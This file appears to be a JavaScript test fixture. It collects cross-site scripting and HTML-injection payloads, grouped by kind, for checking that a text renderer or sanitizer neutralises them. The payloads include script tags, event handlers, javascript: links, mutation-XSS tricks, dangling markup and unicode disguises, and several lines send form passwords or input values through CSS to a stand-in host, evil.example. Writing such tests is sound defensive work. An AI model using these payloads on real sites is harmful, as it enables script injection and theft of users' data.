/**
 * What an attacker would write into a text, by kind. Each of them says `pwned` to this page if it runs, or
 * asks another origin (`evil.example`) for something. Every one is also a text, which readers must be able to
 * read as it stands.
 */
const run = 'window.pwned=1';
const out = '//evil.example';

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=https:${out}/x.js></SCRIPT>`,
  `<script\x20type="text/javascript">${run};</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `</p></article><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<script>${run}//`,
  `<noscript><p title="</noscript><script>${run}</script>"></noscript>`,
  `<template><script>${run}</script></template>`,
];
const handlers = [
  `<img src=x onerror=${run}>`,
  `<img/src=\`x\`/onerror=${run}>`,
  `<img src="x" ONERROR="${run}">`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}//`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set onbegin=${run}>`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>看`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}></select>`,
  `<textarea autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>走</marquee>`,
  `<div style="animation-name:x" onanimationstart=${run}>動</div>`,
  `<p onmouseover=${run} style="position:fixed;inset:0">蓋住</p>`,
  `<xss id=x tabindex=1 onfocus=${run}></xss>`,
];
const addresses = [
  `<a href="javascript:${run}">按我</a>`,
  `<a href="jav&#x09;ascript:${run}">按我</a>`,
  `<a href=" \x01javascript:${run}">按我</a>`,
  `<a href="data:text/html,<script>${run}</script>">按我</a>`,
  `<a href="vbscript:${run}">按我</a>`,
  `<form action="javascript:${run}"><button>送出</button></form>`,
  `<form action="https:${out}"><input name=password></form>`,
  `<button formaction="javascript:${run}">送出</button>`,
  `<isindex action="javascript:${run}" type=submit>`,
  `[按我](javascript:${run})`,
];
const frames = [
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="https:${out}"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<object data="https:${out}/x.swf"></object>`,
  `<embed src="https:${out}/x.swf">`,
  `<portal src="https:${out}"></portal>`,
];
const documents = [
  `<base href="https:${out}/">`,
  `<meta http-equiv="refresh" content="0;url=https:${out}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<link rel=stylesheet href="https:${out}/x.css">`,
  `<link rel=prefetch href="https:${out}/p">`,
  `<link rel=import href="data:text/html,<script>${run}</script>">`,
];
const styles = [
  `<style>@import "https:${out}/x.css";</style>`,
  `<style>input[value^="a"]{background:url(https:${out}/a)}</style>`,
  `<style>*{display:none!important}</style>`,
  `<p style="background:url(https:${out}/b)">背景</p>`,
  `<p style="width:expression(${run})">寬</p>`,
  `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999">遮</div>`,
  `</style><script>${run}</script>`,
];
const mutations = [
  `<noscript><style></noscript><img src=x onerror=${run}></style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<svg><foreignObject><iframe onload=${run}></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x">`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>按我</text></a></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<table><td><svg><desc><td></desc><script>${run}</script>`,
  `<select><template shadowrootmode=open><script>${run}</script></template></select>`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<xmp></xmp><img src=x onerror=${run}>`,
];
const dangling = [
  `<img src='https:${out}/?`,
  `<a href="https:${out}/`,
  `"><img src=x onerror=${run}>`,
  `'--></title></textarea><script>${run}</script>`,
  `<button name=x type=submit form=`,
];
const rubies = [
  `<ruby><ruby><ruby>讀<rt><script>${run}</script></rt></ruby></ruby></ruby>`,
  `<ruby>漢<rp>(</rp><rt><img src=x onerror=${run}></rt><rp>)</rp></ruby>`,
  `<rt><rt><rt onclick=${run}>ㄉㄨˊ</rt></rt></rt>`,
  `<ruby>${'<rb>字'.repeat(200)}</ruby>`,
];
const signs = [
  `\u202e<script>${run}</script>\u202c右往左`,
  `\u200b<\u200bscript>${run}</script>`,
  `＜script＞${run}＜/script＞`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\u00adjava\u00adscript:${run}`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘ 疊字`,
];
const sizes = [
  `${'<b>'.repeat(1_600)}深`,
  `${'<table><tr><td>'.repeat(300)}層`,
  `<img src="${'x'.repeat(3_000)}" onerror=${run}>`,
  `${'長'.repeat(4_000)}<script>${run}</script>`,
];

export const payloads = [
  scripts,
  handlers,
  addresses,
  frames,
  documents,
  styles,
  mutations,
  dangling,
  rubies,
  signs,
  sizes,
].flat();

/** Nested 3,000 times: longer than a paragraph may be. */
export const tooDeep = `${'<i>'.repeat(3_000)}底`;
